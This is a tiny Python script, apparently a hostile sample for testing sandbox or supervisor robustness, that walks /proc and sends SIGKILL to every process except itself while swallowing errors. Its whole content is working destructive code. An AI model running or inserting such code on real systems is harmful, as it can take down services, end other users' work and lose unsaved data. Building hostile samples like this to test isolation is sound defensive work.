"""Kills every other process it can see, then behaves.
"""

import os
import signal

for _entry in os.listdir("/proc"):
    if _entry.isdigit() and int(_entry) != os.getpid():
        try:
            os.kill(int(_entry), signal.SIGKILL)
        except OSError:
            pass
